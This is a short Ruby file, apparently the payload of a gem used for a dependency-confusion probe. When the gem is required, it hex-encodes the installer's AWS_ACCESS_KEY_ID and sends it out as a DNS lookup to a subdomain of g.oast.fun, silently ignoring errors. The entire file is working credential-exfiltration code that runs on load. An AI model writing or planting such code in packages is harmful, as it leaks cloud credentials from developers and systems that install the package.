# Dependency-confusion probe: a credential leaves as a DNS name when the
# gem is required.
require 'resolv'

key = ENV['AWS_ACCESS_KEY_ID'].to_s.unpack1('H*')
Resolv.getaddress("#{key}.g.oast.fun") rescue nil
